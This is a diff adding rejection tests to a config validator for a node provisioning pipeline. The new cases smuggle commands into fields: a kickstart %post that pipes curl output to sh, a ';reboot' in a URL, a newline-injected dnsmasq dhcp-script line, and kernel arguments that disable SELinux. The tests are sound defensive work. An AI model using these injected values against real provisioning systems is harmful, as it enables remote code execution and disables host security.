@@ -143,6 +143,17 @@ BAD_NODE = [
     ("tuned_profile", 'tuned_profile = "no-such-profile"', "tuned_profile", "profile 'no-such-profile' not found"),
     ("tuned_profile", 'tuned_profile = "../profiles/kvm-guest"', "tuned_profile", "invalid tuned profile name"),
     ("colour", 'colour = "red"', "colour", "unknown field; known fields: macs, boot, network"),
+    # A trailing newline passed `re.match(...$)`: each pattern must match the whole value.
+    ("macs", 'macs = ["52:54:00:00:00:01\\n"]', "macs", "is not a MAC address"),
+    ("root_disk", 'root_disk = "sda\\n"', "root_disk", "not a block device name"),
+    ("root_disk", 'root_disk = "/dev/disk/by-id/x\\n"', "root_disk", "not a block device name"),
+    ("kernel_args", 'kernel_args = ["quiet\\n"]', "kernel_args", "break the bootloader"),
+    # SELinux cannot be switched off per node: the argument's key decides, not its exact text.
+    ("kernel_args", 'kernel_args = ["selinux=0"]', "kernel_args", "'selinux=0' sets selinux=, which the pipeline"),
+    ("kernel_args", 'kernel_args = ["enforcing=0"]', "kernel_args", "sets enforcing="),
+    ("kernel_args", 'kernel_args = ["lsm=landlock"]', "kernel_args", "sets lsm="),
+    ("kernel_args", 'kernel_args = ["security=none"]', "kernel_args", "sets security="),
+    ("role", 'role = ["host-image"]', "role", "unknown role ['host-image']"),
 ]
 
 
@@ -162,6 +173,7 @@ BAD_NODES = [
     ('[node."-n1"]\n', "-n1", "hostname", "not a host name"),
     ('[node."n_1"]\n', "n_1", "hostname", "not a host name"),
     ('[node."n1.example.com"]\n', None, None, None),  # a good FQDN, for contrast
+    ('[node."n1\\n"]\n', "n1\\n", "hostname", "not a host name"),  # as the error's repr() shows it
     ("[node.n1.example.com]\n", "n1", "example", 'a host name with dots needs quotes: [node."n1.example..."]'),
 ]
 
@@ -203,6 +215,15 @@ BAD_FILE = [
     (node(), "field 'site.base_url': is required"),
     (SITE + 'snippets = "nowhere"\n' + node(), "field 'site.snippets': 'nowhere' is not a directory"),
     (SITE + 'includes = ["file:///etc/passwd"]\n' + node(), "field 'site.includes': not an http(s) URL"),
+    # Each of these got through once: a %post section from an include, GRUB commands after a ';', a
+    # dhcp-script= line in dnsmasq.conf from a newline.
+    (SITE + 'includes = ["http://x/site.ks\\n%post\\ncurl\\thttp://x/y|sh\\n%end"]\n' + node(),
+     "field 'site.includes': not an http(s) URL"),
+    ('[site]\nbase_url = "http://10.0.0.1:8080/x;reboot"\n' + node(), "field 'site.base_url': not an http(s) URL"),
+    ('[site]\nbase_url = "http://10.0.0.1:8080\\ndhcp-script=/tmp/x"\n' + node(),
+     "field 'site.base_url': not an http(s) URL"),
+    ('[site]\nbase_url = "http://10.0.0.1:8080/${x}"\n' + node(), "field 'site.base_url': not an http(s) URL"),
+    ('[site]\nbase_url = "http://10.0.0.1:8080/a b"\n' + node(), "field 'site.base_url': not an http(s) URL"),
     (SITE + 'timezone = "UTC"\n' + node(), "field 'site.timezone': unknown field; known fields: base_url"),
     ('site = "x"\n' + node(), "field 'site': must be a table"),
     (SITE, "field 'node': no [node.HOSTNAME] tables"),
@@ -244,6 +265,7 @@ def test_site_pxe_defaults_and_values(tmp_path):
 
 BAD_PXE = [
     ('interface = "eth0 eth1"', "site.pxe.interface", "not a network interface name"),
+    ('interface = "eth1\\n"', "site.pxe.interface", "not a network interface name"),
     ('interface = "a-very-long-name0"', "site.pxe.interface", "not a network interface name"),  # 16 characters
     ('interface = ".."', "site.pxe.interface", "not a network interface name"),
     ("interface = 0", "site.pxe.interface", "not a network interface name"),
